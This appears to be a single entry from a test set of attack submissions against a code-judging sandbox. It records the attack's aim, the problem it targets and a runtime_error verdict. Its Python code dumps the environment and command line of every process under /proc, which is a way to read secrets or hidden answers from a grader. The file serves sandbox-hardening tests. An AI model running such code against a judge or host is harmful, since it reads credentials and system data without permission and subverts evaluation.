# row: B7
# attack: prints everything that /proc tells about itself and its parents
# problem: split judge check
# verdict: runtime_error
# naive: nonce
import os, sys, glob
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as file:
            sys.stdout.buffer.write(file.read())
    except OSError:
        pass
sys.stdout.flush()
os._exit(0)
